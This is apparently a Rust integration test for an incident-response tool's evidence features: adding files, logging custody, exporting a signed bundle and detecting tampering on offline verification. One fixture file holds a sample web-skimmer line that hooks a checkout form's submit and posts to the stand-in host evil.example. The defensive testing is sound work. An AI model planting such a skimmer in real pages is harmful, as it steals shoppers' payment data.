//! Evidence: add, export a sealed bundle, verify it offline; tampering is named.

use crate::common::*;

fn verify(bundle: &std::path::Path, key: &str) -> (bool, String) {
    let o = run(&[
        "evidence",
        "verify",
        bundle.to_str().unwrap(),
        "--public-key",
        key,
    ]);
    (o.status.success(), stdout(&o) + &stderr(&o))
}

#[test]
fn export_verify_and_every_kind_of_tampering() {
    let (t, dir) = tempdir();
    init(&dir);
    let d = dir.to_str().unwrap();
    assert!(run(&[
        "incident",
        "open",
        "--data-dir",
        d,
        "--title",
        "Skimmer",
        "--severity",
        "sev1",
        "--classification",
        "web_skimmer",
        "--aware-at",
        "2026-11-20T09:00:00Z"
    ])
    .status
    .success());
    let script = t.path().join("checkout.js");
    std::fs::write(
        &script,
        "document.forms[0].onsubmit = () => fetch('https://evil.example/c', {method: 'POST'});",
    )
    .unwrap();
    let log = t.path().join("access.log");
    std::fs::write(&log, "203.0.113.9 - - [20/Nov/2026:10:00:00 +0000] \"GET /checkout HTTP/1.1\" 200 512 \"-\" \"x\"\n").unwrap();
    let o = run(&[
        "evidence",
        "add",
        "--data-dir",
        d,
        "--incident",
        "1",
        script.to_str().unwrap(),
        log.to_str().unwrap(),
        "--source",
        "web-01",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stdout(&o).lines().count(), 2);
    // Write-once: the stored copy cannot be modified through the locker.
    let stored = std::fs::read_dir(dir.join("evidence")).unwrap().count();
    assert_eq!(stored, 2);

    // Reading an item out is an access in the custody log and on the timeline.
    let copy = t.path().join("copy.js");
    let o = run(&[
        "evidence",
        "get",
        "--data-dir",
        d,
        "--incident",
        "1",
        "1",
        "-o",
        copy.to_str().unwrap(),
        "--reason",
        "malware analysis",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        std::fs::read(&copy).unwrap(),
        std::fs::read(&script).unwrap()
    );
    let rec: serde_json::Value =
        serde_json::from_slice(&run(&["incident", "show", "--data-dir", d, "1", "--json"]).stdout)
            .unwrap();
    let texts = rec["timeline"].to_string();
    assert!(
        texts.contains("collected") && texts.contains("accessed: malware analysis"),
        "{texts}"
    );
    let bundle = t.path().join("bundle");
    let o = run(&[
        "evidence",
        "export",
        "--data-dir",
        d,
        "--incident",
        "1",
        "-o",
        bundle.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let key = stdout(&o)
        .split("--public-key ")
        .nth(1)
        .unwrap()
        .trim()
        .to_owned();
    let (ok, out) = verify(&bundle, &key);
    assert!(ok, "{out}");

    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
    let actions: Vec<&str> = manifest["custody"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["action"].as_str().unwrap())
        .collect();
    assert!(
        actions.contains(&"collected")
            && actions.contains(&"accessed")
            && actions.contains(&"exported"),
        "{actions:?}"
    );
    assert!(!manifest["timeline"].as_array().unwrap().is_empty());

    let files: Vec<std::path::PathBuf> = std::fs::read_dir(bundle.join("files"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    for f in &files {
        let copy = t.path().join("b2");
        let _ = std::fs::remove_dir_all(&copy);
        copy_dir(&bundle, &copy);
        let target = copy.join("files").join(f.file_name().unwrap());
        let mut bytes = std::fs::read(&target).unwrap();
        bytes[3] ^= 1;
        std::fs::write(&target, bytes).unwrap();
        let (ok, out) = verify(&copy, &key);
        assert!(
            !ok && out.contains(&f.file_name().unwrap().to_string_lossy().to_string())
                && out.contains("altered"),
            "{out}"
        );
        std::fs::remove_file(&target).unwrap();
        let (ok, out) = verify(&copy, &key);
        assert!(!ok && out.contains("missing"), "{out}");
    }
    let copy = t.path().join("b3");
    copy_dir(&bundle, &copy);
    let m = std::fs::read_to_string(copy.join("manifest.json"))
        .unwrap()
        .replace("web-01", "web-02");
    std::fs::write(copy.join("manifest.json"), m).unwrap();
    let (ok, out) = verify(&copy, &key);
    assert!(!ok && out.contains("manifest.json"), "{out}");
    // Another key does not vouch for it.
    let (ok, _) = verify(&bundle, &"11".repeat(32));
    assert!(!ok);
    let o = run(&["ledger", "verify", "--data-dir", d]);
    assert!(o.status.success());
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to.join("files")).unwrap();
    for f in ["manifest.json", "manifest.sig"] {
        std::fs::copy(from.join(f), to.join(f)).unwrap();
    }
    for e in std::fs::read_dir(from.join("files")).unwrap() {
        let p = e.unwrap().path();
        std::fs::copy(&p, to.join("files").join(p.file_name().unwrap())).unwrap();
    }
}
